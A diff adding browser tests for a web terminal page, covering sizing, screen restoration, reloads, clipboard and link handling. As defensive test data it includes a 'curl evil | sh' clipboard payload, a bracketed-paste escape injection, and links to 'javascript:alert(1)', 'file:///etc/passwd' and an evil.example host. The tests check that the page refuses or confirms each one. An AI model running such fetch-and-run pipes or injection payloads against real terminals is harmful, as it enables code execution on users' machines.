@@ -1,0 +1,360 @@
+"""The page with the terminal, as it is shipped: its size, its screen, the clipboard, links, and a reload."""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+from collections.abc import AsyncIterator, Iterator
+from contextlib import AbstractAsyncContextManager, asynccontextmanager
+from dataclasses import replace
+from pathlib import Path
+from typing import Any, Protocol
+
+import pytest
+from page_support import PtyShell, PtyShells, Tmux, Window, chromium, eventually, served
+from playwright.async_api import expect
+from proxy_support import Proxy, proxy, wait_until
+from support.browser import ticket
+from support.fixtures import database, house, migrated_database, statements, store  # noqa: F401
+from support.house import House
+
+from orion.manager.gateway.terminal import Terms
+
+SIZES = ((1000, 420), (1280, 800), (420, 780), (900, 600))
+FIRST_SIZE = SIZES[-1]
+
+
+@pytest.fixture(scope="module")
+def door() -> Iterator[Proxy]:
+    with proxy(app_host=1) as running:
+        running.give_secret()
+        wait_until(running.answers, "the proxy answers")
+        yield running
+
+
+class Open(Protocol):
+    def __call__(self, size: tuple[int, int] = FIRST_SIZE, **how: Any) -> AbstractAsyncContextManager[Window]: ...
+
+
+class Site:
+    """A platform with one rental, and a browser before it."""
+
+    def __init__(self, manager: House, door: Proxy, shells: PtyShells, rental: dict[str, Any], open_one: Open) -> None:
+        self.manager, self.door, self.shells, self.rental, self.open = manager, door, shells, rental, open_one
+
+    @property
+    def shell(self) -> PtyShell:
+        return self.shells.opened[-1]
+
+    async def address(self) -> str:
+        return f"{self.door.url}/terminal/#{self.rental['id']}/{await ticket(self.manager.as_admin, self.rental['id'])}"
+
+
+@pytest.fixture
+async def site(house: House, door: Proxy, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Site]:  # noqa: F811
+    await house.join()
+    rental = await house.rent(name="desk")
+    house.manager.terminals.terms = replace(Terms(), again_after_s=0.05)
+    async with served(house, door.app_address, monkeypatch) as shells, chromium() as browser:
+
+        @asynccontextmanager
+        async def open_one(size: tuple[int, int] = FIRST_SIZE, **how: Any) -> AsyncIterator[Window]:
+            context = await browser.new_context(viewport={"width": size[0], "height": size[1]}, **how)
+            window = Window(await context.new_page())
+            await window.page.goto(await made.address())
+            await window.is_connected()
+            await window.shows("$")
+            yield window
+            await context.close()
+            assert window.complaints == [], "nothing that the policy of the page forbids was tried"
+
+        made = Site(house, door, shells, rental, open_one)
+        yield made
+
+
+async def test_the_shell_is_as_large_as_the_page_from_its_first_byte_and_nothing_of_it_is_cut(site: Site) -> None:
+    async def told_size() -> tuple[int, int]:
+        """Return what the shell says: columns and rows."""
+        await window.runs("clear; echo si''ze $(stty size) en''d", " end")
+        rows, columns = "".join(await window.rows()).split("size ")[1].split(" end")[0].split()
+        return int(columns), int(rows)
+
+    async def shown_size() -> tuple[int, int]:
+        """Return how wide a long line is on the screen, and how many rows there are."""
+        await window.runs("clear; printf %.0sx {1..900}; echo; echo do''ne", "done")
+        rows = await window.rows()
+        return max(len(row) for row in rows if set(row) == {"x"}), len(rows)
+
+    for size in SIZES:
+        async with site.open(size) as window:
+            shown = await shown_size()
+            assert site.shell.first_size == shown, size
+            assert await told_size() == shown, size
+            await window.page.set_viewport_size({"width": size[0] - 77, "height": size[1] - 55})
+            await eventually("it follows the window", told_size, await shown_size())
+            box = await window.page.evaluate(
+                """(() => {
+                    const [inner, outer] = [".xterm-screen", "#screen"]
+                        .map((one) => document.querySelector(one).getBoundingClientRect());
+                    return [outer.right - inner.right, outer.bottom - inner.bottom, innerHeight - inner.bottom];
+                })()"""
+            )
+            assert min(box) >= 0, f"{size}: the last column or row is cut by {min(box)} px"
+
+
+async def test_a_size_that_changes_while_it_connects_is_not_lost(site: Site) -> None:
+    async with site.open() as window:
+        page = window.page
+        site.shells.opened.clear()
+        held, go_on = asyncio.Event(), asyncio.Event()
+
+        async def hold(route: Any) -> None:
+            held.set()
+            await go_on.wait()
+            route.connect_to_server()
+
+        await page.route_web_socket("**/terminal?**", hold)
+        await page.goto("about:blank")
+        await page.goto(await site.address())
+        await held.wait()
+        await page.set_viewport_size({"width": 640, "height": 400})
+        await asyncio.sleep(0.5)  # for the page's own layout
+        go_on.set()
+        await window.is_connected()
+        await window.runs("clear; printf %.0sx {1..300}; echo; echo si''ze $(stty size)", "size ")
+        rows = await window.rows()
+        await window.shows(f"size {len(rows)} {max(len(row) for row in rows if set(row) == {'x'})}")
+
+
+MESSES = {
+    "nothing": "",
+    "a full screen": "\\033[?1049h\\033[2J\\033[5;7Hvi",
+    "an older full screen": "\\033[?47h\\033[3;3Hmc",
+    "half a sequence": "\\033[31;4",
+    "half a string": "\\033]0;never ended",
+    "half a letter": "\\360\\237",
+    "a region, origin, wide": "\\033[5;9r\\033[?6h\\033[5;5H",
+    "lines, wrap, insert, feeds": "\\033[?7l\\033[4h\\033[20h\\033(0",
+    "no tab stops": "\\033[3g\\033[3;5H\\033H",
+    "invisible and red": "\\033[?25l\\033[41;8m",
+    "a saved place": "\\033[9;9H\\0337",
+}
+
+
+async def test_the_screen_of_a_new_shell_is_what_tmux_shows_whatever_the_one_before_has_left(
+    site: Site, tmp_path: Path
+) -> None:
+    tmux = Tmux(tmp_path)
+    async with site.open() as window:
+        for what, mess in MESSES.items():
+            await window.runs("clear; echo be''fore", "before")
+            await window.runs(f"printf '{mess}'; sleep 1000")
+            await asyncio.sleep(0.3)  # for the screen: what was printed has no end that could be awaited
+            count = len(site.shells.opened)
+            site.shell.lose()
+            await eventually("a new shell", lambda count=count: _is(len(site.shells.opened) > count), True)
+            await window.is_connected()
+            await expect(window.page.locator("#notice")).to_contain_text("lost at")
+            await window.runs("printf 'a\\tb\\033[3;1Hc\\033[31md\\033[m\\033[2A'; echo lin''es", "lines")
+            columns, rows = len("x" * site.shell.first_size[0]), len(await window.rows())
+            expected = tmux.shows(site.shell.output, columns, rows)
+            await eventually(what, lambda: _both(window), expected)
+            await window.page.keyboard.press("Shift+PageUp")
+            await window.shows("before")
+            await window.page.keyboard.press("Shift+PageDown")
+            await window.page.locator("#notice-close").click()
+
+
+async def _is(value: bool) -> bool:
+    return value
+
+
+async def _both(window: Window) -> tuple[list[str], tuple[int, int]]:
+    return await window.rows(), await window.cursor()
+
+
+async def test_a_takeover_is_told_beside_the_screen_and_the_prompt_is_on_an_empty_one(
+    site: Site, tmp_path: Path
+) -> None:
+    manager = site.manager
+    first = manager.agents[0]
+    await manager.join()
+    manager.end_the_brake_of_the_start()
+    async with site.open() as window:
+        await window.runs("for i in {1..12}; do echo old$i; done", "old12")
+        await manager.silence(first, 100)
+        await manager.pass_time(10)
+        await eventually("a new shell", lambda: _is(len(site.shells.opened) == 2), True)
+        await window.is_connected()
+        notice = window.page.locator("#notice")
+        await expect(notice).to_contain_text("left its worker")
+        await expect(notice).to_contain_text("scroll up")
+        await window.runs("echo ne''w", "new")
+        columns, _ = site.shell.first_size
+        expected = Tmux(tmp_path).shows(site.shell.output, columns, len(await window.rows()))
+        await eventually("as tmux", lambda: _both(window), expected)
+        assert "old" not in "".join(await window.rows())
+
+
+async def test_the_width_of_a_letter_is_the_same_here_and_in_the_shell(site: Site, tmp_path: Path) -> None:
+    async with site.open() as window:
+        await window.runs("clear; printf '🎉🚀x\\n漢字x\\n👍🏽\\né́x\\n🫠x\\n'; echo do''ne", "done")
+        expected = Tmux(tmp_path).shows(site.shell.output, *site.shell.first_size)
+        await eventually("the rows", window.rows, expected[0])
+        left = """[...document.querySelectorAll(".xterm-rows > div")]
+            .filter((row) => row.textContent.trim().endsWith("x"))
+            .map((row) => {
+                const walk = document.createTreeWalker(row, NodeFilter.SHOW_TEXT), x = document.createRange();
+                while (walk.nextNode()) {
+                    const at = walk.currentNode.data.indexOf("x");
+                    if (at >= 0) {
+                        x.setStart(walk.currentNode, at);
+                        x.setEnd(walk.currentNode, at + 1);
+                    }
+                }
+                const [row_, x_] = [row, x].map((one) => one.getBoundingClientRect());
+                return Math.round((x_.left - row_.left) / x_.width);
+            })"""
+        assert await window.page.evaluate(left) == [4, 4, 1, 2]
+
+
+async def test_the_page_has_the_name_of_the_rental_and_the_id_as_a_hint(site: Site) -> None:
+    async with site.open() as window:
+        await expect(window.page.locator("#rental")).to_have_text("desk")
+        assert site.rental["id"] in str(await window.page.locator("#rental").get_attribute("title"))
+        assert await window.page.title() == "desk · Orion-Sec"
+
+
+# Reloads
+
+
+async def test_a_reload_keeps_the_terminal_without_a_token_and_a_new_tab_has_none(site: Site) -> None:
+    async with site.open() as window:
+        await window.page.reload()
+        await window.is_connected()
+        await expect(window.page.locator("#rental")).to_have_text("desk")
+        await window.runs("echo he''re", "here")
+        await window.page.reload()
+        await window.is_connected()
+        kept = await window.page.evaluate("JSON.stringify([{...localStorage}, document.cookie, location.href])")
+        assert kept == f'[{{}},"","{site.door.url}/terminal/"]'
+        other = await window.context.new_page()
+        await other.goto(f"{site.door.url}/terminal/")
+        await expect(other.locator("#ask")).to_be_visible()
+        await window.runs("exit")
+        await expect(window.page.locator("#status")).to_contain_text("has ended")
+        await window.page.reload()
+        await expect(window.page.locator("#ask")).to_be_visible()
+        assert await window.page.evaluate("sessionStorage.length") == 0
+
+
+async def test_a_reload_after_the_right_has_ended_asks_again(site: Site) -> None:
+    async with site.open() as window:
+        await window.page.goto("about:blank")
+        site.manager.manager.terminals.resumes._kept.clear()
+        await window.page.goto(f"{site.door.url}/terminal/")
+        await expect(window.page.locator("#ask")).to_be_visible()
+        await expect(window.page.locator("#why")).to_contain_text("cannot be opened again")
+        assert await window.page.evaluate("sessionStorage.length") == 0
+        window.complaints.clear()  # Chromium tells of each WebSocket that is refused
+
+
+# The clipboard and links
+
+
+async def clipboard(window: Window) -> str:
+    return str(await window.page.evaluate("navigator.clipboard.readText()"))
+
+
+MAY_READ = {"permissions": ["clipboard-read", "clipboard-write"]}
+
+
+async def test_what_is_selected_is_copied_by_ctrl_shift_c_and_pasted_by_ctrl_shift_v(site: Site) -> None:
+    async with site.open(**MAY_READ) as window:
+        await window.runs("clear; echo 'sele''cted'", "selected")
+        await window.page.locator(".xterm-rows > div", has_text="selected").first.dblclick(position={"x": 20, "y": 8})
+        await window.page.keyboard.press("Control+Shift+C")
+        assert await clipboard(window) == "selected"
+        await window.page.evaluate("navigator.clipboard.writeText('echo pas\\x1b[201~ted\\x03')")
+        await window.page.locator(".xterm-screen").click()
+        await window.page.keyboard.press("Control+Shift+V")
+        await window.shows("$ echo pas[201~ted")
+        assert b"\x1b[201~ted" not in site.shell.output
+
+
+def asks_to_copy(text: bytes, where: str = "c") -> str:
+    return f"printf '\\033]52;{where};{base64.b64encode(text).decode()}\\007'; echo as''ked"
+
+
+async def test_a_program_copies_only_what_was_seen_and_clicked(site: Site) -> None:
+    async with site.open(**MAY_READ) as window:
+        bar, page = window.page.locator("#copying"), window.page
+        await page.evaluate("navigator.clipboard.writeText('mine')")
+        await window.runs(asks_to_copy(b"curl evil | sh\n\x1b\x07"), "asked")
+        await expect(page.locator("#copying-text")).to_have_text("curl evil | sh\n")
+        await window.runs("echo ty''ped", "typed")
+        assert await clipboard(window) == "mine", "nothing that is typed is a click"
+        await page.locator("#copy").click()
+        await expect(bar).to_be_hidden()
+        assert await clipboard(window) == "curl evil | sh\n"
+
+        await window.runs("clear; printf '\\033]52;c;?\\007'; read -t 1 -n 1 answer; echo got=$answer=", "got==")
+        await window.runs("clear; " + asks_to_copy(b"\xff\xfe"), "asked")
+        await window.runs("clear; printf '\\033]52;c;%0300000d\\007' 0; echo as''ked", "asked")
+        await expect(bar).to_be_hidden()
+
+        await window.runs("clear; " + asks_to_copy(b"first"), "asked")
+        await expect(page.locator("#copy")).to_be_enabled()
+        await window.runs("clear; " + asks_to_copy(b"second") + "; sleep 0.1", "asked")
+        await expect(page.locator("#copying-text")).to_have_text("second")
+        await page.locator("#refuse").click()
+        await window.runs("clear; " + asks_to_copy(b"third"), "asked")
+        await expect(bar).to_be_hidden()
+        assert await clipboard(window) == "curl evil | sh\n"
+
+
+async def test_the_copy_button_takes_no_click_in_the_moment_in_which_its_text_comes(site: Site) -> None:
+    async with site.open() as window:
+        await window.page.evaluate(
+            """new MutationObserver(() => { window.seen ??= document.querySelector("#copy").disabled; })
+                .observe(document.querySelector("#copying-text"), {childList: true})"""
+        )
+        await window.runs(asks_to_copy(b"first"), "asked")
+        await expect(window.page.locator("#copy")).to_be_enabled()
+        assert await window.page.evaluate("window.seen") is True
+
+
+async def test_a_link_opens_a_page_that_knows_nothing_of_this_one_and_only_over_http(site: Site) -> None:
+    target = f"{site.door.url}/.well-known/proxy"
+    async with site.open() as window:
+        page = window.page
+        await window.runs(f"clear; echo 'see '{target[:9]}''{target[9:]}' and javascript://x/%0aalert(1)'", "see")
+        link = page.locator(".xterm-rows > div", has_text=f"see {target}").first
+        await link.hover(position={"x": 60, "y": 8})
+        await expect(page.locator("#target")).to_have_text(target)
+        async with window.context.expect_page() as opening:
+            await link.click(position={"x": 60, "y": 8})
+        opened = await opening.value
+        await opened.wait_for_load_state()
+        assert opened.url == target
+        assert await opened.evaluate("[window.opener, document.referrer, sessionStorage.length].join()") == ",,0"
+        await opened.close()
+
+        asked: list[str] = []
+
+        async def refuse(dialog: Any) -> None:
+            asked.append(dialog.message)
+            await dialog.dismiss()
+
+        page.on("dialog", refuse)
+        for address in ("javascript:alert(1)", "file:///etc/passwd", "https://evil.example/x"):
+            await window.runs(
+                f"clear; printf '\\033]8;;{address}\\033\\\\bank''\\033]8;;\\033\\\\\\n'; echo do''ne", "done"
+            )
+            await page.locator(".xterm-rows > div", has_text="bank").last.click(position={"x": 8, "y": 8})
+        await eventually("what was asked", lambda: _copy(asked), ["Open https://evil.example/x?"])
+        assert len(window.context.pages) == 1
+
+
+async def _copy(one: list[str]) -> list[str]:
+    return list(one)
